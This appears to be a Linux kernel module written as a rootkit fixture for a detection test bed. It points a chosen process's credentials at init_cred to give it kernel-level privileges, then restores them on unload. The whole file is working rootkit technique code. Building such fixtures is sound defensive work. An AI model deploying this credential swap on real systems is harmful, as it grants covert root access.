// SPDX-License-Identifier: GPL-2.0
/*
 * steal_cred: a rootkit fixture that gives a process the kernel's own
 * credentials, the way rootkits grant root without exec: both of the task's
 * credential pointers (cred and real_cred) are pointed at init_cred, the
 * credentials kernel threads run with. No user-space process holds them
 * otherwise: every exec gives a process its own struct cred.
 *
 * Parameters:
 *   pid=        the process (a thread group leader in the initial pid namespace)
 *   init_cred=  address of init_cred (not exported; the test reads it from
 *               /proc/kallsyms)
 *
 * The old credentials are kept referenced and put back on unload; the task
 * must not change its credentials meanwhile (the bed's victim only sleeps).
 */
#include <linux/cred.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include "fixture.h"

static int pid = -1;
module_param(pid, int, 0400);
MODULE_PARM_DESC(pid, "pid of the process to give init_cred");
static unsigned long init_cred_addr;
module_param_named(init_cred, init_cred_addr, ulong, 0400);
MODULE_PARM_DESC(init_cred, "address of init_cred from /proc/kallsyms");

static struct task_struct *target;
static const struct cred *old_cred, *old_real_cred;

static int __init steal_cred_init(void)
{
	const struct cred *root = (const struct cred *)init_cred_addr;
	struct pid *found;
	int err = fixture_check_symbol(init_cred_addr, "init_cred", NULL);

	if (err)
		return err;
	found = find_get_pid(pid);
	target = found ? get_pid_task(found, PIDTYPE_PID) : NULL;
	put_pid(found);
	if (!target) {
		pr_err("steal_cred: no process with pid %d\n", pid);
		return -ESRCH;
	}
	task_lock(target);
	old_real_cred = rcu_dereference_protected(target->real_cred, 1);
	old_cred = rcu_dereference_protected(target->cred, 1);
	rcu_assign_pointer(target->real_cred, get_cred(root));
	rcu_assign_pointer(target->cred, get_cred(root));
	task_unlock(target);
	pr_info("steal_cred: pid %d (%s) now runs on init_cred (%px); its own cred was %px\n", pid,
		target->comm, root, old_cred);
	return 0;
}

static void __exit steal_cred_exit(void)
{
	const struct cred *stolen_cred, *stolen_real_cred;

	task_lock(target);
	stolen_real_cred = rcu_dereference_protected(target->real_cred, 1);
	stolen_cred = rcu_dereference_protected(target->cred, 1);
	rcu_assign_pointer(target->real_cred, old_real_cred);
	rcu_assign_pointer(target->cred, old_cred);
	task_unlock(target);
	synchronize_rcu();
	put_cred(stolen_real_cred);
	put_cred(stolen_cred);
	pr_info("steal_cred: pid %d (%s) has its own credentials back\n", pid, target->comm);
	put_task_struct(target);
}
module_init(steal_cred_init);
module_exit(steal_cred_exit);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Rootkit fixture: points a process's credentials at init_cred");
